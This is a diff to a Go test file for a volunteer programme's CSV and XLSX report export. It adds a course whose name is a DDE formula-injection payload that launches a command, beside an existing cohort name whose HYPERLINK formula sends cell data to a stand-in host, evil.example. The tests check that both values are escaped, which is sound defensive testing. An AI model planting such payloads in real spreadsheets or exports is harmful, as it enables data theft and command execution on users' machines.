@@ -7,6 +7,7 @@ import (
 	"encoding/csv"
 	"fmt"
 	"net/http"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -16,8 +17,35 @@ import (
 	"github.com/konullu/konullu"
 )
 
-// evilCohort is a cohort name a spreadsheet would run as a formula.
-const evilCohort = `=HYPERLINK("http://evil.example/?x="&A1,"Payız")`
+// evilCohort and evilCourse are names a spreadsheet would run as formulas.
+const (
+	evilCohort = `=HYPERLINK("http://evil.example/?x="&A1,"Payız")`
+	evilCourse = `@SUM(1+1)*cmd|' /C calc'!A0`
+)
+
+// exec runs a statement with times in the database's own form and returns
+// the id it returns, if any.
+func (f *fixture) exec(query string, args ...any) int64 {
+	f.t.Helper()
+	for i, a := range args {
+		if t, ok := a.(time.Time); ok && f.db.Dialect() != "postgres" {
+			args[i] = t.UTC().Format("2006-01-02T15:04:05.000000Z")
+		}
+	}
+	if f.db.Dialect() == "postgres" {
+		n := 0
+		query = regexp.MustCompile(`\?`).ReplaceAllStringFunc(query, func(string) string { n++; return fmt.Sprintf("$%d", n) })
+	}
+	var id int64
+	if strings.Contains(query, "RETURNING") {
+		if err := f.db.SQL().QueryRow(query, args...).Scan(&id); err != nil {
+			f.t.Fatal(err)
+		}
+	} else if _, err := f.db.SQL().Exec(query, args...); err != nil {
+		f.t.Fatal(err)
+	}
+	return id
+}
 
 // programme adds to the fixture a cohort serving its first centre with two
 // applications, one accepted whose volunteer attended a shift ten days
@@ -53,6 +81,13 @@ func (f *fixture) programme() string {
 		Periods: []konullu.Period{{StartsAt: start, EndsAt: start.Add(4 * time.Hour)}}}))[0]
 	a := must(f.db.SignUp(ctx, s.ID, accepted.VolunteerID, true))
 	must(f.db.RecordAttendance(ctx, a.ID, s.StartsAt, s.EndsAt))
+	// The volunteer passed a course named like a formula; the qualification
+	// expires in 10 days.
+	q := f.exec(`INSERT INTO qualifications (name, name_key, validity_months, created_at) VALUES (?, ?, 12, ?) RETURNING id`,
+		"İlk yardım", "ilk yardım", now)
+	course := f.exec(`INSERT INTO courses (name, qualification_id, created_at) VALUES (?, ?, ?) RETURNING id`, evilCourse, q, now)
+	f.exec(`INSERT INTO held_qualifications (volunteer_id, qualification_id, granted_at, expires_at, source, course_id)
+		VALUES (?, ?, ?, ?, 'COURSE', ?)`, accepted.VolunteerID, q, now.Add(-20*day), now.Add(10*day), course)
 	return base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf("Cohort:%d", c.ID)))
 }
 
@@ -85,8 +120,10 @@ func TestProgrammeExportCSV(t *testing.T) {
 			"days_to_first_shift_median,days_to_first_shift_p25,days_to_first_shift_p75,days_to_first_shift_p90,days_to_first_shift_mean," +
 			"enrolled,completed,valid,expiring_within_30_days,expiring_within_90_days,expired",
 		// The cohort's name is written behind a quote: no spreadsheet runs it.
-		"funnel,'" + evilCohort + ",,2,1,1,0,1,0,0,10.0,10.0,10.0,10.0,10.0,,,,,,",
-		"funnel,total,,2,1,1,0,1,0,0,10.0,10.0,10.0,10.0,10.0,,,,,,",
+		"funnel,'" + evilCohort + ",,2,1,1,1,1,0,0,10.0,10.0,10.0,10.0,10.0,,,,,,",
+		"funnel,total,,2,1,1,1,1,0,0,10.0,10.0,10.0,10.0,10.0,,,,,,",
+		"course,,'" + evilCourse + ",,,,,,,,,,,,,1,1,,,,",
+		"qualification,,İlk yardım,,,,,,,,,,,,,,,1,1,0,0",
 	}
 	if len(records) != len(want) {
 		t.Fatalf("%d records, want %d: %q", len(records), len(want), records)
@@ -104,7 +141,8 @@ func TestProgrammeExportCSV(t *testing.T) {
 
 	// Headings in the language asked for; one cohort by its id.
 	records = readCSV(t, f.get("admin", "/reports/programme-funnel.csv"+q+"&lang=az&cohortId="+cohort).Body.Bytes())
-	if len(records) != 3 || records[0][0] != "Bölmə" || records[0][7] != "İlk növbə" || records[2][1] != "Bütün axınlar" || records[1][0] != "Mərhələlər" {
+	if len(records) != 5 || records[0][0] != "Bölmə" || records[0][7] != "İlk növbə" || records[2][1] != "Bütün axınlar" || records[1][0] != "Mərhələlər" ||
+		records[3][0] != "Kurs" || records[4][0] != "İxtisas" {
 		t.Errorf("in Azerbaijani: %q", records)
 	}
 	records = readCSV(t, f.get("staff", "/reports/programme-funnel.csv"+q+"&lang=ru").Body.Bytes())
@@ -146,7 +184,7 @@ func TestProgrammeExportXLSX(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(rows) != 3 || rows[0][3] != "Applied" || rows[1][1] != "'"+evilCohort || rows[1][3] != "2" || rows[2][1] != "All cohorts" || rows[2][10] != "10" {
+	if len(rows) != 5 || rows[0][3] != "Applied" || rows[1][1] != "'"+evilCohort || rows[3][2] != "'"+evilCourse || rows[1][3] != "2" || rows[2][1] != "All cohorts" || rows[2][10] != "10" {
 		t.Errorf("rows %q", rows)
 	}
 	for _, cell := range []string{"D2", "H3", "K3"} {
